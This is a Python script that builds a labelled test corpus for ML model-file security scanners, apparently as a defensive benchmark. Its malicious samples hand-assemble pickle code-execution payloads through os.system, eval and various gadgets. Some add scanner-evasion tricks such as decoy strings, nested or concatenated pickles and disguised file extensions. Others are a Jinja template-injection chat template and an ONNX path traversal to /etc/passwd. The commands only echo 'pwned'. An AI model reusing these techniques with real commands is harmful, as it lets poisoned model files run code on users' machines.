"""Generate the model-scanning benchmark corpus.

Writes benign models (made with the real frameworks) and malicious files (built byte by byte)
into ``benchmarks/model_scan/corpus/`` together with ``manifest.json``, which records, for every
file, the expected label (``benign`` / ``malicious``) and the class it stands for.

Safety rules, kept on purpose:
  * every malicious payload is assembled from raw pickle opcodes / raw bytes here;
  * nothing in this script ever unpickles or otherwise loads a malicious file;
  * payload commands are harmless strings (``echo pwned``) all the same.

Run with the corpus venv (torch, numpy, scikit-learn, joblib, safetensors, onnx, h5py):
    .venvs/corpus/bin/python corpus.py [--big] [--out DIR]
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import lzma
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
CMD = "echo pwned"  # the only "command" any payload carries
PY_CMD = "__import__('os').system('echo pwned')"

# --------------------------------------------------------------------------------------------
# Raw pickle opcode helpers (see Lib/pickletools.py for the opcode table).
# --------------------------------------------------------------------------------------------
PROTO4 = b"\x80\x04"
PROTO2 = b"\x80\x02"
MARK = b"("
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
REDUCE = b"R"
STOP = b"."
POP = b"0"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
APPENDS = b"e"
SETITEM = b"s"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"


def s(text: str) -> bytes:
    """Push a str: SHORT_BINUNICODE or BINUNICODE."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def b_bytes(data: bytes) -> bytes:
    """Push bytes: SHORT_BINBYTES or BINBYTES."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def i(value: int) -> bytes:
    """Push an int: BININT1 for 0..255, BININT otherwise."""
    if 0 <= value < 256:
        return b"K" + bytes([value])
    return b"J" + struct.pack("<i", value)


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (protocol 0 text form)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def binget(idx: int) -> bytes:
    return b"h" + bytes([idx])


def call(module: str, name: str, *args: bytes) -> bytes:
    """callable(*args) as GLOBAL + MARK args TUPLE + REDUCE (no PROTO, no STOP)."""
    return glob(module, name) + MARK + b"".join(args) + TUPLE + REDUCE


def wrap(body: bytes, proto: bytes = PROTO4) -> bytes:
    return proto + body + STOP


def benign_pickle() -> bytes:
    """A tiny, genuinely benign pickle made by the stdlib (a dict of floats)."""
    return pickle.dumps({"weights": [0.1, 0.2, 0.3], "bias": 0.5}, protocol=4)


# --------------------------------------------------------------------------------------------
# Malicious pickle bodies.
# --------------------------------------------------------------------------------------------
def p_os_system() -> bytes:
    # protocol 0 text pickle, the textbook payload
    return glob("os", "system") + b"(S'" + CMD.encode() + b"'\ntR."


def p_posix_system() -> bytes:
    return wrap(call("posix", "system", s(CMD)))


def p_builtins_eval() -> bytes:
    return wrap(call("builtins", "eval", s(PY_CMD)))


def p_builtins_exec() -> bytes:
    return wrap(call("builtins", "exec", s("import os; os.system('echo pwned')")))


def p_pip_main() -> bytes:
    # pip.main(["--version"]): harmless here, but pip.main(["install", URL]) installs anything
    return wrap(glob("pip", "main") + MARK + EMPTY_LIST + MARK + s("--version") + APPENDS + TUPLE + REDUCE)


def p_pydoc_pipepager() -> bytes:
    # pydoc.pipepager(text, cmd) runs cmd through a shell
    return wrap(call("pydoc", "pipepager", s("pwned"), s(CMD)))


def p_timeit_timeit() -> bytes:
    # timeit.timeit(stmt, setup="pass", timer=..., number=1): stmt is exec'd
    return wrap(call("timeit", "timeit", s(PY_CMD), s("pass"), glob("time", "perf_counter"), i(1)))


def p_cprofile_run() -> bytes:
    return wrap(call("cProfile", "run", s(PY_CMD)))


def p_posixsubprocess_fork_exec() -> bytes:
    # _posixsubprocess.fork_exec with a 3.11-shaped argument tuple (never executed here)
    args = (
        EMPTY_LIST
        + MARK
        + b_bytes(b"/bin/sh")
        + b_bytes(b"-c")
        + b_bytes(CMD.encode())
        + APPENDS
        + EMPTY_LIST
        + MARK
        + b_bytes(b"/bin/sh")
        + APPENDS
        + NEWTRUE  # close_fds
        + MARK
        + TUPLE  # pass_fds
        + NONE
        + NONE  # cwd, env
        + i(-1)
        + i(-1)
        + i(-1)
        + i(-1)
        + i(-1)
        + i(-1)  # p2cread .. errwrite
        + i(3)
        + i(4)  # errpipe_read, errpipe_write
        + NEWFALSE
        + NEWFALSE  # restore_signals, call_setsid
        + i(-1)
        + NONE
        + NONE
        + NONE
        + i(-1)
        + NONE
        + NEWTRUE  # pgid, gid, groups, uid, umask, preexec, vfork
    )
    return wrap(glob("_posixsubprocess", "fork_exec") + MARK + args + TUPLE + REDUCE)


def p_numpy_runstring() -> bytes:
    return wrap(
        call("numpy.testing._private.utils", "runstring", s("import os; os.system('echo pwned')"), EMPTY_DICT)
    )


def p_operator_attrgetter() -> bytes:
    # attrgetter("__init__.__globals__")(zipfile.ZipFile)  -> zipfile's module globals
    # itemgetter("os")(<globals>)                            -> the os module
    # attrgetter("system")(os)                               -> os.system
    # os.system("echo pwned")
    globals_ = call("operator", "attrgetter", s("__init__.__globals__"))
    globals_ = globals_ + MARK + glob("zipfile", "ZipFile") + TUPLE + REDUCE
    os_mod = call("operator", "itemgetter", s("os")) + MARK + globals_ + TUPLE + REDUCE
    system = call("operator", "attrgetter", s("system")) + MARK + os_mod + TUPLE + REDUCE
    return wrap(system + MARK + s(CMD) + TUPLE + REDUCE)


def p_functools_partial() -> bytes:
    # functools.partial(os.system, "echo pwned")()  : the call happens through partial.__call__
    part = call("functools", "partial", glob("os", "system"), s(CMD))
    return wrap(part + MARK + TUPLE + REDUCE)


def p_getattr_import() -> bytes:
    # getattr(__import__("os"), "system")("echo pwned")
    mod = call("builtins", "__import__", s("os"))
    fn = glob("builtins", "getattr") + MARK + mod + s("system") + TUPLE + REDUCE
    return wrap(fn + MARK + s(CMD) + TUPLE + REDUCE)


def p_stack_global_memo() -> bytes:
    # The module/name strings are memoized early, popped, then fetched back with BINGET right
    # before STACK_GLOBAL. Decoy strings sit right before the fetch so that a scanner that
    # pairs STACK_GLOBAL with "the last two strings pushed" sees collections.OrderedDict.
    body = (
        s("os")
        + MEMOIZE
        + POP  # memo 0
        + s("system")
        + MEMOIZE
        + POP  # memo 1
        + s("collections")
        + MEMOIZE
        + POP  # memo 2
        + s("OrderedDict")
        + MEMOIZE
        + POP  # memo 3
        + binget(0)
        + binget(1)
        + STACK_GLOBAL
        + s(CMD)
        + TUPLE1
        + REDUCE
    )
    return wrap(body)


def p_proto0_inst() -> bytes:
    # MARK args INST module name : instantiates/calls module.name(*args) (protocol 0)
    return b"(S'" + CMD.encode() + b"'\nios\nsystem\n."


def p_truncated_after_payload() -> bytes:
    # REDUCE runs before the unpickler reaches the bad opcode and the missing STOP
    return PROTO4 + call("os", "system", s(CMD)) + b"\xff\xfe garbage, no STOP"


def p_concat_second() -> bytes:
    # A loader that unpickles repeatedly (legacy torch, custom readers) reaches the second one
    return benign_pickle() + wrap(call("os", "system", s(CMD)))


def p_nested_loads() -> bytes:
    inner = wrap(call("os", "system", s(CMD)))
    return wrap(glob("pickle", "loads") + b_bytes(inner) + TUPLE1 + REDUCE)


def p_payload_then_benign() -> bytes:
    """os.system payload whose result is popped, then a benign-looking dict is returned."""
    return PROTO4 + call("os", "system", s(CMD)) + POP + EMPTY_DICT + s("weight") + i(1) + SETITEM + STOP


# --------------------------------------------------------------------------------------------
# Containers built by hand.
# --------------------------------------------------------------------------------------------
def torch_like_zip(data_pkl: bytes, prefix: str = "archive", pkl_name: str = "data.pkl") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{prefix}/{pkl_name}", data_pkl)
        zf.writestr(f"{prefix}/byteorder", b"little")
        zf.writestr(f"{prefix}/data/0", struct.pack("<4f", 0.1, 0.2, 0.3, 0.4))
        zf.writestr(f"{prefix}/version", b"3\n")
        zf.writestr(f"{prefix}/.data/serialization_id", b"0123456789012345678901234567890123456789")
    return buf.getvalue()


def corrupt_first_crc(zip_bytes: bytes) -> bytes:
    """Flip the CRC-32 of the first member in both its local header and the central directory."""
    data = bytearray(zip_bytes)
    assert data[:4] == b"PK\x03\x04"
    data[14:18] = struct.pack("<I", struct.unpack("<I", bytes(data[14:18]))[0] ^ 0xDEADBEEF)
    cd = data.find(b"PK\x01\x02")
    data[cd + 16 : cd + 20] = struct.pack(
        "<I", struct.unpack("<I", bytes(data[cd + 16 : cd + 20]))[0] ^ 0xDEADBEEF
    )
    return bytes(data)


def npy_with_pickle(payload: bytes) -> bytes:
    """A .npy v1.0 file whose object-dtype body is the given pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    total = 10 + len(header) + 1
    header = header + " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + payload


def gguf(metadata: list[tuple[str, str]]) -> bytes:
    """A minimal GGUF v3 file with string metadata only and no tensors."""
    out = bytearray(b"GGUF")
    out += struct.pack("<I", 3)  # version
    out += struct.pack("<Q", 0)  # tensor count
    out += struct.pack("<Q", len(metadata))
    for key, value in metadata:
        kb, vb = key.encode(), value.encode()
        out += struct.pack("<Q", len(kb)) + kb
        out += struct.pack("<I", 8)  # GGUF_TYPE_STRING
        out += struct.pack("<Q", len(vb)) + vb
    return bytes(out)


BENIGN_CHAT_TEMPLATE = (
    "{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] + '</s>\\n' }}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}"
)
MALICIOUS_CHAT_TEMPLATE = (
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo pwned').read() }}"
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').system('echo pwned') }}{% endif %}{% endfor %}"
)


def _sequential(layer_class: str, layer_config: dict[str, object], keras3: bool) -> dict[str, object]:
    """A one-layer Sequential model config, as Keras 3 (.keras) or Keras 2 (HDF5) writes it."""
    if keras3:
        return {
            "module": "keras",
            "class_name": "Sequential",
            "config": {
                "name": "sequential",
                "layers": [
                    {
                        "module": "keras.layers",
                        "class_name": "InputLayer",
                        "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"},
                    },
                    {"module": "keras.layers", "class_name": layer_class, "config": layer_config},
                ],
            },
        }
    return {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"},
                },
                {"class_name": layer_class, "config": layer_config},
            ],
        },
    }


def keras_lambda_config(function_b64: str, keras3: bool) -> dict[str, object]:
    function: object = (
        {"class_name": "__lambda__", "config": {"code": function_b64, "defaults": None, "closure": None}}
        if keras3
        else [function_b64, None, None]
    )
    lam_cfg: dict[str, object] = {
        "name": "lambda",
        "trainable": True,
        "dtype": "float32",
        "function": function,
        "function_type": "lambda",
        "module": "builtins" if keras3 else "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    return _sequential("Lambda", lam_cfg, keras3)


def keras_dense_config(keras3: bool) -> dict[str, object]:
    dense: dict[str, object] = {
        "name": "dense",
        "trainable": True,
        "dtype": "float32",
        "units": 2,
        "activation": "relu",
        "use_bias": True,
    }
    return _sequential("Dense", dense, keras3)


def lambda_bytecode_b64() -> str:
    """marshal of a lambda's code object, as Keras' func_dump writes it (compiled, never called)."""
    import marshal

    module_code = compile(f"lambda x: ({PY_CMD}, x)[1]", "<lambda>", "eval")
    lam_code = next(c for c in module_code.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(lam_code)).decode()


# --------------------------------------------------------------------------------------------
# The corpus.
# --------------------------------------------------------------------------------------------
@dataclass
class Entry:
    path: str
    label: str  # benign | malicious
    cls: str  # the class the file stands for
    description: str
    size: int = 0


class Corpus:
    def __init__(self, out: Path) -> None:
        self.out = out
        self.entries: list[Entry] = []
        self.skipped: list[str] = []

    def add(self, rel: str, data: bytes, label: str, cls: str, description: str) -> None:
        path = self.out / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.entries.append(Entry(rel, label, cls, description))

    def add_made(
        self, rel: str, make: Callable[[Path], None], label: str, cls: str, description: str
    ) -> None:
        """``make`` writes the file itself (frameworks). Failures are recorded, not fatal."""
        path = self.out / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        try:
            make(path)
        except Exception as exc:  # noqa: BLE001 -- an optional framework may be missing
            self.skipped.append(f"{rel}: {type(exc).__name__}: {exc}")
            path.unlink(missing_ok=True)
            return
        self.entries.append(Entry(rel, label, cls, description))

    def write_manifest(self) -> None:
        for e in self.entries:
            e.size = (self.out / e.path).stat().st_size
        manifest = {
            "generator": "benchmarks/model_scan/corpus.py",
            "payload_command": CMD,
            "files": [asdict(e) for e in self.entries],
            "skipped": self.skipped,
        }
        (self.out / "manifest.json").write_text(json.dumps(manifest, indent=2) + "\n")


def make_malicious(c: Corpus) -> None:
    m = "malicious"
    c.add(
        "main/malicious/os_system.pkl", p_os_system(), m, "os.system", "protocol-0 GLOBAL os.system + REDUCE"
    )
    c.add(
        "main/malicious/posix_system.pkl",
        p_posix_system(),
        m,
        "posix.system",
        "posix.system: os.system's real home",
    )
    c.add(
        "main/malicious/builtins_eval.pkl",
        p_builtins_eval(),
        m,
        "builtins.eval",
        "builtins.eval of Python source",
    )
    c.add(
        "main/malicious/builtins_exec.pkl",
        p_builtins_exec(),
        m,
        "builtins.exec",
        "builtins.exec of Python source",
    )
    c.add(
        "main/malicious/gadget_pip_main.pkl",
        p_pip_main(),
        m,
        "gadget:pip.main",
        "pip.main([...]) can install anything",
    )
    c.add(
        "main/malicious/gadget_pydoc_pipepager.pkl",
        p_pydoc_pipepager(),
        m,
        "gadget:pydoc.pipepager",
        "pydoc.pipepager(text, cmd) runs cmd in a shell",
    )
    c.add(
        "main/malicious/gadget_timeit_timeit.pkl",
        p_timeit_timeit(),
        m,
        "gadget:timeit.timeit",
        "timeit.timeit(stmt) execs stmt",
    )
    c.add(
        "main/malicious/gadget_cprofile_run.pkl",
        p_cprofile_run(),
        m,
        "gadget:cProfile.run",
        "cProfile.run execs code",
    )
    c.add(
        "main/malicious/gadget_posixsubprocess_fork_exec.pkl",
        p_posixsubprocess_fork_exec(),
        m,
        "gadget:_posixsubprocess.fork_exec",
        "the C primitive under subprocess",
    )
    c.add(
        "main/malicious/gadget_numpy_runstring.pkl",
        p_numpy_runstring(),
        m,
        "gadget:numpy.testing._private.utils.runstring",
        "numpy's runstring execs code",
    )
    c.add(
        "main/malicious/gadget_operator_attrgetter.pkl",
        p_operator_attrgetter(),
        m,
        "gadget:operator.attrgetter chain",
        "attrgetter/itemgetter walk ZipFile.__init__.__globals__['os'].system",
    )
    c.add(
        "main/malicious/gadget_functools_partial.pkl",
        p_functools_partial(),
        m,
        "gadget:functools.partial",
        "partial(os.system, cmd)() called through partial",
    )
    c.add(
        "main/malicious/gadget_getattr_import.pkl",
        p_getattr_import(),
        m,
        "gadget:builtins.getattr+__import__",
        "getattr(__import__('os'), 'system')(cmd)",
    )
    c.add(
        "main/malicious/stack_global_memo.pkl",
        p_stack_global_memo(),
        m,
        "STACK_GLOBAL memo-fetched names",
        "os/system memoized, popped, BINGET'd back before STACK_GLOBAL; decoy strings in between",
    )
    c.add("main/malicious/proto0_inst.pkl", p_proto0_inst(), m, "protocol-0 INST", "MARK args INST os system")
    c.add(
        "main/malicious/truncated_after_payload.pkl",
        p_truncated_after_payload(),
        m,
        "payload before broken opcode",
        "REDUCE os.system, then an invalid opcode and no STOP",
    )
    c.add(
        "main/malicious/concat_second_pickle.pkl",
        p_concat_second(),
        m,
        "payload in second concatenated pickle",
        "benign pickle followed by a malicious one",
    )
    c.add(
        "main/malicious/nested_pickle_loads.pkl",
        p_nested_loads(),
        m,
        "nested pickle via pickle.loads",
        "outer pickle calls pickle.loads on bytes holding the payload",
    )
    c.add(
        "main/malicious/torch_zip_data_pkl.pt",
        torch_like_zip(p_payload_then_benign()),
        m,
        "torch zip: malicious data.pkl",
        "torch.save-style zip whose archive/data.pkl calls os.system",
    )
    c.add(
        "main/malicious/zip_member_not_pkl.zip",
        torch_like_zip(p_payload_then_benign(), prefix="model", pkl_name="weights.bin"),
        m,
        "zip member not named *.pkl",
        "zip whose pickle member is model/weights.bin",
    )
    c.add(
        "main/malicious/torch_zip_bad_crc.pt",
        corrupt_first_crc(torch_like_zip(p_payload_then_benign())),
        m,
        "torch zip with bad CRC",
        "torch zip, malicious data.pkl, CRC-32 flipped in both headers",
    )
    c.add(
        "main/malicious/disguised_pickle.safetensors",
        p_payload_then_benign(),
        m,
        "pickle disguised as .safetensors",
        "raw malicious pickle with a .safetensors name",
    )
    c.add(
        "main/malicious/disguised_pickle.txt",
        p_payload_then_benign(),
        m,
        "pickle disguised as .txt",
        "raw malicious pickle with a .txt name",
    )
    c.add(
        "main/malicious/joblib_zlib_payload.joblib",
        zlib.compress(p_payload_then_benign(), 3),
        m,
        "compressed joblib (zlib) payload",
        "joblib.load-able zlib stream holding the payload",
    )
    c.add(
        "main/malicious/joblib_lzma_payload.joblib",
        lzma.compress(p_payload_then_benign(), format=lzma.FORMAT_XZ),
        m,
        "compressed joblib (lzma/xz) payload",
        "joblib.load-able xz stream holding the payload",
    )

    inner_zip = io.BytesIO()
    with zipfile.ZipFile(inner_zip, "w") as zf:
        zf.writestr("model/model.pkl", p_payload_then_benign())
        zf.writestr("model/README.md", "a model\n")
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as tf:
        info = tarfile.TarInfo("bundle/model.zip")
        info.size = len(inner_zip.getvalue())
        tf.addfile(info, io.BytesIO(inner_zip.getvalue()))
    c.add(
        "main/malicious/nested_zip_in_tar.tar",
        tar_buf.getvalue(),
        m,
        "payload in nested zip-in-tar",
        "tar > zip > model.pkl",
    )

    c.add(
        "main/malicious/npy_object_pickle.npy",
        npy_with_pickle(p_payload_then_benign()),
        m,
        "npy object array with malicious pickle",
        "np.load(allow_pickle=True) runs the pickle body",
    )

    b64 = lambda_bytecode_b64()

    def keras_h5(path: Path) -> None:
        import h5py

        with h5py.File(path, "w") as f:
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = json.dumps(keras_lambda_config(b64, keras3=False))
            f.create_group("model_weights")

    c.add_made(
        "main/malicious/keras_lambda.h5",
        keras_h5,
        m,
        "Keras HDF5 Lambda layer",
        "model_config with a Lambda layer carrying marshalled bytecode",
    )
    c.add(
        "main/malicious/keras_lambda.keras",
        keras_v3_zip(keras_lambda_config(b64, keras3=True)),
        m,
        "Keras v3 .keras Lambda layer",
        ".keras zip whose config.json has a Lambda layer",
    )
    c.add(
        "main/malicious/gguf_jinja_template.gguf",
        gguf(
            [
                ("general.architecture", "llama"),
                ("general.name", "tiny"),
                ("tokenizer.chat_template", MALICIOUS_CHAT_TEMPLATE),
            ]
        ),
        m,
        "GGUF malicious Jinja chat template",
        "tokenizer.chat_template with an SSTI escape to os",
    )
    c.add_made(
        "main/malicious/onnx_external_traversal.onnx",
        lambda p: onnx_model(p, traversal=True),
        m,
        "ONNX external data path traversal",
        "initializer with external_data location ../../../../etc/passwd",
    )


def keras_v3_zip(config: dict[str, object]) -> bytes:
    buf = io.BytesIO()
    weights = io.BytesIO()
    try:
        import h5py

        with h5py.File(weights, "w") as f:
            f.create_group("layers")
    except ImportError:
        pass
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(
            "metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01@00:00:00"})
        )
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", weights.getvalue())
    return buf.getvalue()


def onnx_model(path: Path, traversal: bool) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.random.default_rng(0).standard_normal((4, 3)).astype(np.float32), "W")
    b = numpy_helper.from_array(np.zeros(3, dtype=np.float32), "B")
    if traversal:
        w.ClearField("raw_data")
        w.data_location = TensorProto.EXTERNAL
        for key, value in (("location", "../../../../../../etc/passwd"), ("offset", "0"), ("length", "48")):
            entry = w.external_data.add()
            entry.key, entry.value = key, value
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["X", "W"], ["XW"]), helper.make_node("Add", ["XW", "B"], ["Y"])],
        "tiny",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 3])],
        initializer=[w, b],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    onnx.save_model(model, str(path))


def make_benign(c: Corpus) -> None:
    g = "benign"
    import joblib
    import numpy as np
    from sklearn.datasets import make_classification
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x, y = make_classification(n_samples=200, n_features=8, random_state=0)
    estimators = {
        "logreg": LogisticRegression(max_iter=200).fit(x, y),
        "forest": RandomForestClassifier(n_estimators=5, max_depth=4, random_state=0).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(x, y),
    }
    from sklearn.model_selection import GridSearchCV

    search = GridSearchCV(LogisticRegression(max_iter=200), {"C": [0.1, 1.0]}, cv=2)
    estimators["grid_search"] = search.fit(x, y)
    for name, est in estimators.items():
        c.add(
            f"main/benign/sklearn_{name}.pkl",
            pickle.dumps(est, protocol=4),
            g,
            "sklearn pickle",
            f"{type(est).__name__} via pickle.dumps",
        )
        for tag, compress in (("plain", 0), ("zlib", ("zlib", 3)), ("lzma", ("lzma", 3))):
            c.add_made(
                f"main/benign/sklearn_{name}_{tag}.joblib",
                lambda p, est=est, compress=compress: joblib.dump(est, p, compress=compress),
                g,
                f"sklearn joblib ({tag})",
                f"{type(est).__name__} via joblib.dump compress={compress}",
            )

    def reference_frame(path: Path) -> None:
        import pandas as pd

        frame = pd.DataFrame({"f": np.arange(4.0), "s": list("abcd"), "c": pd.Categorical(list("xyxy"))})
        frame["t"] = pd.date_range("2026-01-01", periods=4, tz="UTC")
        frame.to_pickle(path)

    c.add_made(
        "main/benign/reference_frame.pkl",
        reference_frame,
        g,
        "pandas DataFrame pickle",
        "DataFrame.to_pickle: floats, strings, categorical, UTC times",
    )
    c.add_made(
        "main/benign/array_float.npy",
        lambda p: np.save(p, np.arange(1000, dtype=np.float32)),
        g,
        "npy",
        "float32 array",
    )
    c.add_made(
        "main/benign/array_object_strings.npy",
        lambda p: np.save(p, np.array(["cat", "dog", "bird"], dtype=object), allow_pickle=True),
        g,
        "npy object array (strings)",
        "object array of str: a legitimate pickle inside .npy",
    )
    c.add_made(
        "main/benign/arrays.npz",
        lambda p: np.savez(p, a=np.ones((10, 10), dtype=np.float64), b=np.arange(5)),
        g,
        "npz",
        "two numeric arrays",
    )
    c.add_made(
        "main/benign/arrays_compressed.npz",
        lambda p: np.savez_compressed(p, a=np.ones((32, 32), dtype=np.float32)),
        g,
        "npz",
        "np.savez_compressed",
    )

    def st(path: Path) -> None:
        from safetensors.numpy import save_file

        save_file({"w": np.ones((16, 16), dtype=np.float32), "b": np.zeros(16, dtype=np.float32)}, str(path))

    c.add_made("main/benign/model.safetensors", st, g, "safetensors", "two float32 tensors")
    c.add_made("main/benign/model.onnx", lambda p: onnx_model(p, traversal=False), g, "onnx", "MatMul + Add")
    c.add(
        "main/benign/chat_model.gguf",
        gguf(
            [
                ("general.architecture", "llama"),
                ("general.name", "tiny"),
                ("tokenizer.chat_template", BENIGN_CHAT_TEMPLATE),
            ]
        ),
        g,
        "gguf",
        "ordinary chat template",
    )
    c.add(
        "main/benign/dense.keras", keras_v3_zip(keras_dense_config(keras3=True)), g, "keras v3", "Dense only"
    )

    def keras_h5(path: Path) -> None:
        import h5py

        with h5py.File(path, "w") as f:
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = json.dumps(keras_dense_config(keras3=False))
            grp = f.create_group("model_weights").create_group("dense").create_group("dense")
            grp.create_dataset("kernel:0", data=np.ones((4, 2), dtype=np.float32))
            grp.create_dataset("bias:0", data=np.zeros(2, dtype=np.float32))

    c.add_made("main/benign/dense.h5", keras_h5, g, "keras hdf5", "Dense only")

    try:
        import torch
    except ImportError as exc:
        c.skipped.append(f"torch models: {exc}")
        return
    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(16, 32), torch.nn.ReLU(), torch.nn.Linear(32, 4))
    sd = net.state_dict()
    c.add_made(
        "main/benign/torch_state_dict.pt",
        lambda p: torch.save(sd, p),
        g,
        "torch state dict (zip)",
        "torch.save(state_dict)",
    )
    c.add_made(
        "main/benign/pytorch_model.bin",
        lambda p: torch.save(sd, p),
        g,
        "torch state dict (zip)",
        "HF-style pytorch_model.bin",
    )
    c.add_made(
        "main/benign/torch_state_dict_legacy.pt",
        lambda p: torch.save(sd, p, _use_new_zipfile_serialization=False),
        g,
        "torch state dict (legacy)",
        "legacy non-zip format: several concatenated pickles",
    )
    c.add_made(
        "main/benign/torch_module.pt",
        lambda p: torch.save(net, p),
        g,
        "torch whole nn.Module (zip)",
        "pickled nn.Sequential",
    )
    c.add_made(
        "main/benign/torch_module_legacy.pt",
        lambda p: torch.save(net, p, _use_new_zipfile_serialization=False),
        g,
        "torch whole nn.Module (legacy)",
        "pickled nn.Sequential, legacy format",
    )
    c.add_made(
        "main/benign/torch_checkpoint.ckpt",
        lambda p: torch.save(
            {"epoch": 3, "model": sd, "optimizer": torch.optim.SGD(net.parameters(), lr=0.1).state_dict()}, p
        ),
        g,
        "torch training checkpoint",
        "epoch + model + optimizer",
    )

    def training_checkpoint(path: Path) -> None:
        import argparse
        import datetime
        import pathlib

        opt = torch.optim.Adam(net.parameters())
        net(torch.randn(2, 16)).sum().backward()
        opt.step()
        state = {
            "args": argparse.Namespace(lr=1e-3, arch="mlp", data="/data/train"),
            "model": net.state_dict(),
            "optimizer": opt.state_dict(),
            "data_dir": pathlib.Path("/data/train"),
            "saved_at": datetime.datetime(2026, 11, 29),
        }
        torch.save(state, path)

    c.add_made(
        "main/benign/torch_checkpoint_args_paths.pt",
        training_checkpoint,
        g,
        "torch training checkpoint (args, paths)",
        "argparse.Namespace + pathlib.Path + Adam state, fairseq-style",
    )


BIG_FILES = ("big/checkpoint_zip.pt", "big/checkpoint_legacy.pt", "big/checkpoint_many_tensors.pt")


def make_big(out: Path, target_mb: int) -> list[Entry]:
    import torch

    entries: list[Entry] = []
    n_floats = target_mb * 1024 * 1024 // 4
    # a realistic mix: a few big matrices plus many small ones
    shapes: list[tuple[int, ...]] = []
    remaining = n_floats
    layer = 0
    while remaining > 0:
        rows = min(4096, max(1, remaining // 4096))
        shapes.append((rows, 4096))
        shapes.append((4096,))
        remaining -= rows * 4096 + 4096
        layer += 1
    gen = torch.Generator().manual_seed(0)
    sd = {
        f"layers.{k // 2}.{'weight' if k % 2 == 0 else 'bias'}": torch.randn(shape, generator=gen)
        for k, shape in enumerate(shapes)
    }
    # the same size spread over ~50,000 small tensors: a large pickle with ~1.5M opcodes
    per_tensor = 5120
    many = {
        f"blocks.{i}.weight": torch.randn(per_tensor, generator=gen) for i in range(n_floats // per_tensor)
    }
    big = out / "big"
    big.mkdir(parents=True, exist_ok=True)
    variants = (
        (BIG_FILES[0], False, sd, "big torch checkpoint (zip)"),
        (BIG_FILES[1], True, sd, "big torch checkpoint (legacy)"),
        (BIG_FILES[2], False, many, "big torch checkpoint, many tensors (zip)"),
    )
    for rel, legacy, state, cls in variants:
        path = out / rel
        print(f"writing {rel} ({target_mb} MB)...", file=sys.stderr)
        torch.save(state, path, _use_new_zipfile_serialization=not legacy)
        entries.append(
            Entry(rel, "benign", cls, f"state dict of {len(state)} float32 tensors", path.stat().st_size)
        )
    return entries


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", type=Path, default=HERE / "corpus")
    ap.add_argument("--big", action="store_true", help="also write ~1 GB torch checkpoints (zip + legacy)")
    ap.add_argument(
        "--big-mb", type=int, default=0, help="size of each big checkpoint (default: by free disk)"
    )
    args = ap.parse_args()

    out: Path = args.out
    shutil.rmtree(out / "main", ignore_errors=True)
    out.mkdir(parents=True, exist_ok=True)
    c = Corpus(out)
    make_malicious(c)
    make_benign(c)
    c.write_manifest()
    n_mal = sum(e.label == "malicious" for e in c.entries)
    print(f"corpus: {len(c.entries)} files ({n_mal} malicious) in {out}", file=sys.stderr)
    for line in c.skipped:
        print(f"  skipped {line}", file=sys.stderr)

    big_manifest = out / "big_manifest.json"
    if args.big:
        target = args.big_mb
        if not target:
            free_mb = shutil.disk_usage(out).free // (1024 * 1024)
            target = 1024 if free_mb > 8 * 1024 else 500
            print(f"free disk {free_mb} MB -> big checkpoints of {target} MB", file=sys.stderr)
        existing = json.loads(big_manifest.read_text()) if big_manifest.exists() else None
        if (
            existing
            and existing.get("target_mb") == target
